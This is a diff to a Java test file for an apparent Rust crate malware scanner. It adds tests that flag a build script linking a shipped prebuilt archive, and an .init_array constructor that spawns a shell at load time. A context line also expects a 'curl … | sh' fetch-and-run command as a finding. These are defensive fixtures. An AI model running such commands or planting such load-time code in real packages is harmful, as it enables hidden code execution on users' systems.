@@ -220,4 +220,35 @@ class RealIncidentsTest {
         assertThat(finding(scan, "obfuscated-literal").message()).contains("curl -s http://203.0.113.5/x | sh");
         assertThat(finding(scan, "spawns-network-tool").severity().label()).isEqualTo("high");
     }
+
+    /** A build script that links an archive shipped in the crate: its code is in no source file. */
+    @Test
+    void aShippedArchiveLinkedByTheBuildScriptIsHigh() {
+        Path crate = dir.resolve("fast-hash");
+        write(crate, "lib/libfasthash.a", "!<arch>\nprecompiled");
+        CrateScan scan = scan("fast-hash", "build.rs", """
+                fn main() {
+                    println!("cargo:rustc-link-search=native={}/lib", std::env::var("CARGO_MANIFEST_DIR").unwrap());
+                    println!("cargo:rustc-link-lib=static=fasthash");
+                }
+                """);
+        Finding finding = finding(scan, "prebuilt-native-linked");
+        assertThat(finding.severity().label()).isEqualTo("high");
+        assertThat(finding.message()).contains("lib/libfasthash.a");
+    }
+
+    /** Library code in .init_array runs before main in every program, tests included: next to a spawn, high. */
+    @Test
+    void aConstructorThatSpawnsIsLoadTimeCode() {
+        CrateScan scan = scan("init-helper", "src/lib.rs", """
+                #[used]
+                #[link_section = ".init_array"]
+                static INIT: extern "C" fn() = init;
+
+                extern "C" fn init() {
+                    let _ = std::process::Command::new("sh").arg("-c").arg("id").spawn();
+                }
+                """);
+        assertThat(finding(scan, "load-time-code").severity().label()).isEqualTo("high");
+    }
 }
